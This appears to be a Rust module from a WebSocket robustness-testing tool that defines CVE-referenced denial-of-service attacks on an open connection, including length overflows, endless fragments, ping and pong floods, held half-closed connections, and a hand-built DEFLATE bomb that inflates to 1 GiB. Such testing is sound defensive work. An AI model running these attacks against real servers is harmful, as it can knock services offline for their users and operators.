//! Attacks on an open connection.

use std::sync::LazyLock;
use std::time::{Duration, Instant};

use super::Attack;
use super::link::{Link, Target, frame, header};

const MIB: u64 = 1 << 20;
const ANSWER: Duration = Duration::from_millis(1500);
const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate\r\n";

const fn attack(name: &'static str, known_by: &'static str, run: fn(&Target) -> String) -> Attack {
    Attack { name, known_by, slow: false, run }
}

pub(crate) const ATTACKS: &[Attack] = &[
    attack(
        "announced-length",
        "CVE-2022-35922, CVE-2026-54274: 200 connections that announce 15 MiB",
        announced,
    ),
    attack("length-overflow", "CVE-2026-1528: a length of 2^63 - 1", |target| {
        with(target, |link| link.send(&header(0x82, (1 << 63) - 1)))
    }),
    attack("length-sum", "CVE-2020-27813: lengths of fragments whose sum overflows", |target| {
        with(target, |link| {
            link.send(&frame(0x02, b"xy"));
            link.send(&header(0x00, (1 << 63) - 1))
        })
    }),
    attack("length-top-bit", "CVE-2020-13935: a length whose highest bit is set", |target| {
        with(target, |link| link.send(&header(0x82, u64::MAX)))
    }),
    attack("length-of-ping", "CVE-2020-13935: a ping of 2^32 bytes", |target| {
        with(target, |link| link.send(&header(0x89, 1 << 32)))
    }),
    attack("first-bytes", "CVE-2025-5399: frames with each of the 256 first bytes", first_bytes),
    attack("endless-garbage", "CVE-2024-52532: a violation, and bytes without end behind it", |target| {
        with(target, |link| {
            link.send(&frame(0xFF, b""));
            // Not before the end: whether it reads on does not depend on what it has said.
            while link.sent < 256 * MIB && link.send(&[0xFF; 16_000]) && !link.heard().over {}
        })
    }),
    attack(
        "endless-message",
        "CVE-2014-0193, CVE-2026-42786, CVE-2026-9675: continuations without end",
        |target| {
            with(target, |link| {
                link.send(&frame(0x02, b"x"));
                repeat(link, &frame(0x00, &[7; 16_000]), 256 * MIB);
            })
        },
    ),
    attack("tiny-fragments", "CVE-2026-48779: continuations of one byte", |target| {
        with(target, |link| {
            link.send(&frame(0x02, b"x"));
            repeat(link, &frame(0x00, b"x").repeat(1000), 16 * MIB);
        })
    }),
    attack("empty-fragments", "CVE-2026-12151: continuations of nothing", |target| {
        with(target, |link| {
            link.send(&frame(0x02, b"x"));
            repeat(link, &frame(0x00, b"").repeat(1000), 16 * MIB);
        })
    }),
    attack("unread-messages", "CVE-2020-35896: messages whose answers are not read", |target| {
        with(target, |link| {
            link.heard().deaf = true;
            repeat(link, &frame(0x82, &[7; 1000]).repeat(16), 256 * MIB);
        })
    }),
    attack("unread-pings", "CVE-2020-35896: pings whose answers are not read", |target| {
        with(target, |link| {
            link.heard().deaf = true;
            repeat(link, &frame(0x89, &[7; 125]).repeat(100), 256 * MIB);
        })
    }),
    attack("ping-flood", "100,000 pings whose answers are read", |target| {
        with(target, |link| {
            for _ in 0..1000 {
                link.send(&frame(0x89, b"?").repeat(100));
            }
            link.wait_for(Duration::from_secs(10), |heard| heard.pongs >= 100_000);
        })
    }),
    attack("pong-flood", "CVE-2021-3690: pongs that nobody asked for", |target| {
        with(target, |link| {
            repeat(link, &frame(0x8A, &[7; 125]).repeat(100), 64 * MIB);
        })
    }),
    attack("close-loop", "1000 times Close, and messages behind it", |target| {
        with(target, |link| {
            link.send(&[frame(0x88, &[3, 0xE8]).repeat(1000), frame(0x81, b"behind").repeat(1000)].concat());
        })
    }),
    attack("byte-at-a-time", "a message of 100 kB, a byte at a time", |target| {
        with(target, |link| {
            let message = frame(0x82, &[7; 100_000]);
            for byte in &message {
                link.send(std::slice::from_ref(byte));
            }
            link.wait_for(Duration::from_secs(3), |heard| heard.messages > 0);
        })
    }),
    attack("not-masked", "a frame without a mask", |target| with(target, |link| link.send(b"\x81\x02Hi"))),
    attack("not-utf8", "text that begins with bytes that are none", |target| {
        with(target, |link| link.send(&[header(0x81, 1000), vec![0xFF, 0xFE]].concat()))
    }),
    attack("not-agreed", "CVE-2026-59881: a compressed frame without an agreement on it", |target| {
        with(target, |link| link.send(&frame(0xC2, &[0])))
    }),
    attack("bomb", "CVE-2018-1000518, CVE-2026-1526: a message that inflates to 1 GiB", |target| {
        bomb(target, |link, payload| link.send(&frame(0xC2, payload)))
    }),
    attack("bomb-in-fragments", "the same in fragments of 100 bytes", |target| {
        bomb(target, |link, payload| {
            let mut bytes = frame(0x42, &[]);
            payload.chunks(100).for_each(|part| bytes.extend(frame(0x00, part)));
            link.send(&bytes)
        })
    }),
    attack("not-deflate", "a compressed message that is no DEFLATE", |target| {
        bomb(target, |link, _| link.send(&frame(0xC2, &[0xFF; 100])))
    }),
    Attack {
        slow: true,
        ..attack(
            "no-answer-to-close",
            "CVE-2024-23672: a connection that fails, and whose peer neither answers nor goes",
            unfinished,
        )
    },
];

/// Breaks a rule, hears the Close, and stays. The server has ended its direction then; whether it still holds the
/// connection shows when it takes no more bytes.
fn unfinished(target: &Target) -> String {
    let Ok(mut link) = target.open("") else { return "no 101".into() };
    link.send(&frame(0x83, b""));
    link.wait_for(target.most, |heard| heard.over);
    let began = Instant::now();
    while link.send(&[0]) {
        std::thread::sleep(Duration::from_millis(100));
    }
    let stayed = if Instant::now() > link.until { "STILL HELD" } else { "dropped" };
    let stayed = format!(", {stayed} after {:.1} s", began.elapsed().as_secs_f64());
    link.outcome(target.most) + &stayed
}

fn with<T>(target: &Target, attack: impl FnOnce(&mut Link) -> T) -> String {
    match target.open("") {
        Ok(mut link) => {
            attack(&mut link);
            link.outcome(ANSWER)
        }
        Err(error) => error.to_string(),
    }
}

/// The same again until it is not taken any more, an answer came or so much was sent.
fn repeat(link: &mut Link, bytes: &[u8], most: u64) {
    while link.sent < most && link.send(bytes) {
        let heard = link.heard();
        if heard.over || !heard.closes.is_empty() {
            return;
        }
    }
}

fn announced(target: &Target) -> String {
    let mut links: Vec<_> = (0..200).filter_map(|_| target.open("").ok()).collect();
    for link in &mut links {
        link.send(&[header(0x82, 15 * MIB), vec![7; 10]].concat());
    }
    std::thread::sleep(Duration::from_millis(300));
    format!("{} open, {} of them still", links.len(), links.iter().filter(|link| !link.heard().over).count())
}

/// A connection for each first byte, with a short masked frame of one byte of content.
fn first_bytes(target: &Target) -> String {
    let mut links = Vec::new();
    for first in 0..=0xFF {
        let Ok(mut link) = target.open("") else { return format!("no 101 behind {}", links.len()) };
        link.send(&frame(first, b"x"));
        links.push(link);
    }
    std::thread::sleep(ANSWER);
    let mut said = Vec::<(String, usize)>::new();
    for link in &links {
        let heard = link.heard();
        let what = match heard.closes.first() {
            Some(code) => format!("Close {code}"),
            None if heard.over => "dropped".into(),
            None => "open".into(),
        };
        match said.iter_mut().find(|(other, _)| *other == what) {
            Some((_, count)) => *count += 1,
            None => said.push((what, 1)),
        }
    }
    said.sort();
    said.iter().map(|(what, count)| format!("{count} × {what}")).collect::<Vec<_>>().join(", ")
}

fn bomb(target: &Target, attack: impl FnOnce(&mut Link, &[u8]) -> bool) -> String {
    match target.open(OFFER) {
        Ok(link) if !link.heard().deflate => "compression is not agreed on".into(),
        Ok(mut link) => {
            attack(&mut link, &BOMB);
            link.outcome(Duration::from_secs(5))
        }
        Err(error) => error.to_string(),
    }
}

static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| zeros(1 << 30));

/// What takes the attacker time is done before time is taken.
pub(crate) fn prepare() {
    LazyLock::force(&BOMB);
}

/// The payload of a message of `len` zeros or a few more: a block with dynamic Huffman codes (RFC 1951 §3.2.7), in which two bits
/// that are zero repeat the last byte 258 times.
fn zeros(len: usize) -> Vec<u8> {
    /// The codes and the first zero; seven bits are left, the last one half of a repetition.
    const HEAD: [u8; 14] =
        [0xEC, 0xC0, 0x81, 0x00, 0x00, 0x00, 0x00, 0x80, 0xA0, 0xFD, 0xA9, 0x17, 0xA9, 0x00];
    /// The other half of a repetition, the end of the block, and the start of the empty one that RFC 7692 takes off.
    const END: u8 = 0x06;
    let mut out = HEAD.to_vec();
    out.resize(HEAD.len() + len / (4 * 258), 0x00);
    out.push(END);
    out
}
